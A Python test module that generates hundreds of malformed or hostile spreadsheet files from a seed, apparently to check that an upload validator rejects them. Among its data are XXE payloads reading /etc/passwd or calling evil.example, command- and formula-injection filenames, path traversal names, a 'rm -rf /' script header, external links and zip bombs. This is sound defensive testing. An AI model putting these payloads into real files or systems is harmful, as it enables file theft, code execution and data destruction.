"""Spoiled and hostile files by the hundred from a seed, harmless in themselves: none unpacks to much where it is not stopped."""

import random
import struct
import zipfile

from tests.desk.hostile import SHEET, bomb, locked, lying, many_tags, overlapping, packed, parts_of, with_part, with_text

VILLAGES = "xl/worksheets/sheet5.xml"
NAMES = (
    "县情.xlsx", "../../../etc/cron.d/x.xlsx", "..\\..\\x.xlsx", "<img src=x onerror=alert(1)>.xlsx", "=cmd|' /C calc'!A0.xlsx",
    "\u202excod.xlsx", "a" * 200 + ".xlsx", "CON.xlsx", "`id`;$(id).xlsx", "%2e%2e%2fx.xlsx", "{name}{0.__class__}%s.xlsx",
    "{{7*7}}.xlsx",
)  # fmt: skip
RELS = "xl/_rels/workbook.xml.rels"
DAMAGED = ("damaged", "no workbook")


def _cut(book, rng):
    good = book.read_bytes()
    return good[: rng.randrange(1, len(good) - 30)], DAMAGED


def _inside(book, rng):
    """Bytes of a packed part are others."""
    good = bytearray(book.read_bytes())
    with zipfile.ZipFile(book) as archive:
        part = max(archive.infolist(), key=lambda one: one.compress_size)
    first = part.header_offset + 60
    for _ in range(rng.randrange(3, 60)):
        good[first + rng.randrange(part.compress_size - 60)] ^= rng.randrange(1, 256)
    return bytes(good), (*DAMAGED, "definitions", "unpacks")


def _type(book, rng):
    starts = (b"%PDF-1.7\n", b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n", b"<html><script>alert(1)</script>", b"MZ\x90", b"\x7fELF",
              b"#!/bin/sh\nrm -rf /\n", b"{\\rtf1", b"\x1f\x8b\x08", b"Rar!\x1a\x07", "县,村\n".encode("gb18030"))  # fmt: skip
    return rng.choice(starts) + rng.randbytes(rng.randrange(2000)), ("no workbook",)


def _archive(book, rng):
    names = ("word/document.xml", "ppt/presentation.xml", "a.txt", "META-INF/MANIFEST.MF", "index.html")
    return packed({rng.choice(names): b"x" * rng.randrange(99), "b": b""}), ()


def _macro(book, rng):
    name = rng.choice(("xl/vbaProject.bin", "xl/vbaProjectSignature.bin", "xl/vbaData.xml", "xl/macrosheets/sheet9.xml",
                       "xl/dialogsheets/sheet1.xml", "xl/activeX/activeX1.bin",
                       "Basic/Standard/M.xml", "Scripts/python/a.py"))  # fmt: skip
    return with_part(book, _cased(name, rng)), ("macros",)


def _macro_type(book, rng):
    """Macros under another name, told by their type."""
    said = rng.choice((b"application/vnd.ms-excel.sheet.macroEnabled.main+xml", b"application/vnd.ms-office.vbaProject",
                       b"application/vnd.ms-office.vba&#80;roject"))  # fmt: skip
    more = b'<Override PartName="/xl/t%d.bin" ContentType="%s"/></Types>' % (rng.randrange(99), said)
    return with_text(book, "[Content_Types].xml", b"</Types>", more), ("macros",)


def _link(book, rng):
    name = rng.choice(
        ("xl/externalLinks/externalLink1.xml", "xl/connections.xml", "xl/queryTables/queryTable1.xml", "customUI/customUI.xml")
    )
    return with_part(book, _cased(name, rng)), ("links",)


def _far(book, rng):
    """A relation that leads elsewhere, in one of the ways in which that can be written."""
    kind = rng.choice(("image", "oleObject", "externalLinkPath", "attachedTemplate", "image?a=/hyperlink"))
    where = rng.choice(
        ("http://evil.example/a.png", "file:///etc/passwd", "\\\\evil.example\\share\\a", "http://e.example/a>b/hyperlink")
    )
    mode = rng.choice(("TargetMode='External'", 'TargetMode = "External"', 'TargetMode="&#69;xternal"'))
    sign = rng.choice(("", "r:"))
    one = f'<{sign}Relationship Id="rX" Type="http://s.example/{kind}" Target="{where}" {mode}/>'
    text = parts_of(book)[RELS].decode().replace("</Relationships>", one + "</Relationships>")
    text = text.replace("<Relationships", f"<Relationships xmlns:r={QUOTED}", 1) if sign else text
    if rng.random() < 0.3:
        return packed(parts_of(book) | {RELS: text.replace("UTF-8", "UTF-16").encode("utf-16")}), ("links",)
    return packed(parts_of(book) | {RELS: text.encode()}), ("links",)


QUOTED = '"http://schemas.openxmlformats.org/package/2006/relationships"'


def _object(book, rng):
    name = rng.choice(
        ("xl/embeddings/oleObject1.bin", "xl/oleObjects/a.bin", "xl/ctrlProps/ctrlProp1.xml", "Object 1/content.xml")
    )
    return with_part(book, _cased(name, rng)), ("objects",)


def _nested(book, rng):
    """An archive, a program or an old document within, under a name that says nothing."""
    inner = rng.choice((packed({"a": b"x" * 99}), packed({"a.zip": packed({"b.zip": packed({"c": b"y"})})}), b"MZ\x90\0",
                        b"\x7fELF\x02", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 9, b"Rar!\x1a\x07\0"))  # fmt: skip
    return with_part(book, f"xl/media/image{rng.randrange(9)}.png", inner), ("objects",)


def _entity(book, rng):
    """Definitions, in one of the encodings that readers know; none of them grows in the test, for none is read."""
    text = rng.choice(('<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
                       '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/">%b;]><a/>'))  # fmt: skip
    code = rng.choice(("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"))
    pad = " " * rng.choice((0, 0, 2**18 - 5))  # a word that lies across two pieces
    name = rng.choice((SHEET, "xl/styles.xml", "xl/sharedStrings.xml", "xl/a.bin"))
    return with_part(book, name, (pad + text).encode(code)), ("definitions",)


def _encoding(book, rng):
    """An encoding in which nothing can be looked for."""
    text, code = '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', rng.choice(("utf-7", "utf-32", "utf-32-be", "cp037"))
    said = f'<?xml version="1.0" encoding="{code}"?>'
    begins = said.encode() if code in ("utf-7", "cp037") else said.encode(code)
    return with_part(book, rng.choice((SHEET, "xl/styles.xml")), begins + text.encode(code)), ("encoding",)


def _bomb(book, rng):
    return bomb(book, rng.randrange(61, 70) * 2**20), ("unpacks to more",)


def _lying_bomb(book, rng):
    return lying(bomb(book, rng.randrange(61, 70) * 2**20)), ("unpacks to more",)


def _overlap(book, rng):
    return overlapping(rng.randrange(61, 300)), ("unpacks to more",)


def _tags(book, rng):
    return many_tags(book, rng.randrange(6_000_001, 6_500_000)), ("unpacks to more",)


def _parts(book, rng):
    return packed({f"xl/{number}": b"" for number in range(2001 + rng.randrange(50))}), ("parts",)


def _locked_part(book, rng):
    return locked(book.read_bytes()), ("password",)


def _old(book, rng):
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rng.randbytes(rng.randrange(3000)), ("password",)


def _path(book, rng):
    """A part whose name leads out of wherever it would be unpacked."""
    name = rng.choice(("../../../evil", "xl/../../evil", "/evil", "..\\..\\evil", "C:\\evil", "xl/a\nb", "xl/\u202eb"))
    return with_part(book, name), ("lead out", "damaged")


def _two_names(book, rng):
    """A part that has another name where it lies than in the list."""
    data = bytearray(book.read_bytes())
    at = data.find(SHEET.encode())
    data[at : at + 2] = rng.choice((b"xx", b"XL", b"..", b"\0l"))
    return bytes(data), ("damaged",)


def _packed_otherwise(book, rng):
    data = bytearray(book.read_bytes())
    how = rng.choice((9, 12, 14, 93, 99))
    struct.pack_into("<H", data, data.find(b"PK\x01\x02") + 10, how)
    return bytes(data), ("packed in a way", "damaged")


def _broken_sheet(book, rng):
    """Sound as an archive, no workbook within: a sheet that is cut, is missing, or reaches to the last cell there is."""
    parts = parts_of(book)
    how = rng.randrange(4)
    assert b"</sheetData>" in parts[VILLAGES]
    if how == 0:
        parts[SHEET] = parts[SHEET][: rng.randrange(60, len(parts[SHEET]) // 2)]
    elif how == 1:
        del parts["xl/workbook.xml"]
    elif how == 2:
        parts["xl/workbook.xml"] = b"<workbook/>"
    else:
        far = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
        parts[VILLAGES] = parts[VILLAGES].replace(b"</sheetData>", far, 1)
    return packed(parts), ()


def _cased(name, rng):
    return "".join(rng.choice((sign.lower(), sign.upper())) for sign in name) if rng.random() < 0.5 else name


MANY = (_cut, _inside, _type, _archive, _macro, _macro_type, _link, _far, _object, _nested, _entity, _encoding, _path, _two_names,
        _packed_otherwise, _broken_sheet, _locked_part, _old)  # fmt: skip
HEAVY = (_bomb, _lying_bomb, _overlap, _tags, _parts)  # which take their time: one in 25
ENDINGS = (".xlsm", ".xls", ".exe", ".zip", ".csv", ".xlsx.html", ".xlsb", "")


def spoiled(book, seed, count):
    """So many: what it is, its name, its content, and words of which one is said of it (none: its own reader says what)."""
    rng, found = random.Random(seed), []
    for number in range(count):
        make = rng.choice(HEAVY) if number % 25 == 24 else MANY[number % len(MANY)]
        content, words = make(book, rng)
        name = rng.choice(NAMES)
        if number % 20 == 19:
            name, words = name.removesuffix(".xlsx") + rng.choice(ENDINGS), ("a kind that is not taken",)
        found.append((f"{number} {make.__name__}", name, content, words))
    return found
